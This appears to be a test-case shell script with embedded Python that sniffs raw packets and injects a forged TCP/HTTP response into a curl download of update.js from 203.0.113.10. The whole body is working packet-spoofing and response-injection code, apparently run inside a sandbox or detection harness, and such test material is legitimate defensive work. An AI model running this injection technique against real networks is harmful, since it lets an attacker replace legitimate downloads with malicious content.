#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import socket, struct, subprocess
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("eth0", 0)); s.settimeout(4)
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW); r.setsockopt(0, 3, 1)
p = subprocess.Popen(["curl", "-s", "-m", "3", "http://203.0.113.10/update.js"], stdout=-3)
while True:
    f = s.recv(65535); i = f[14:]
    if f[12:14] != b"\x08\0" or i[9] != 6 or b"GET /update.js" not in i: continue
    h = (i[0] & 15) * 4; sp, dp, q, a = struct.unpack(">HHII", i[h:h + 12]); n = len(i) - h - (i[h + 12] >> 4) * 4
    body = b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nevil\n"
    t = struct.pack(">HHIIBBHHH", dp, sp, a, q + n, 0x50, 0x18, 65535, 0, 0) + body
    r.sendto(struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(t), 1, 0, 64, 6, 0) + i[16:20] + i[12:16] + t, (socket.inet_ntoa(i[12:16]), 0)); break
p.wait()
END
took_place
